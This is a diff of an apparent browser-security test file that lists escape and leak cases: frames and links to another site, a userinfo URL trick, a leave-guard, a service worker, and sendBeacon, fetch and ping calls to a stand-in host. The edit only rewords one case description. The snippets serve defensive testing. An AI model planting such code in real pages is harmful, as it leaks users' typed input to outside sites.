@@ -25,7 +25,7 @@ WAYS = (
     Case("frame", "a frame that goes to another site", "left", _A.format("href='#' onclick=\"f.src='@away'\"") + "<iframe id=f></iframe>"),
     Case("user-part", "an address that begins with the allowed site", "left", _A.format("href='http://127.0.0.1@@where/do/@name/left'"), wander=("http://127.0.0.1@@where/do/@name/left",)),
     Case("leave-guard", "a page that asks before it is left", "left", "<script>onbeforeunload=e=>e.preventDefault()</script>" + _A.format("href='@away'"), wander=("@away",)),
-    Case("service-worker", "a worker that answers for the site", "left", "<script>navigator.serviceWorker.register('/worker.js?to=@away').then(()=>navigator.serviceWorker.ready).then(()=>{document.title='ready'})</script>" + _A.format("href='/worked'"), wander=("@shop/worked",), ready="document.title === 'ready'"),
+    Case("service-worker", "a worker that tells another site", "left", "<script>navigator.serviceWorker.register('/worker.js?to=@away').then(()=>navigator.serviceWorker.ready).then(()=>{document.title='ready'})</script>" + _A.format("href='/worked'"), wander=("@shop/worked",), ready="document.title === 'ready'"),
     Case("beacon", "what was typed, told to another site", "left", "<input class=field oninput=\"navigator.sendBeacon('@away',this.value)\">" + _A.format("href='#' onclick=\"fetch('@away',{method:'POST',mode:'no-cors'})\"")),
     Case("ping", "a link that tells another site", "left", _A.format("href='/fine' ping='@away'")),
     Case("download", "a link that saves", "downloaded", _A.format("href='/file/@name' download"), wander=("@shop/file/@name",)),
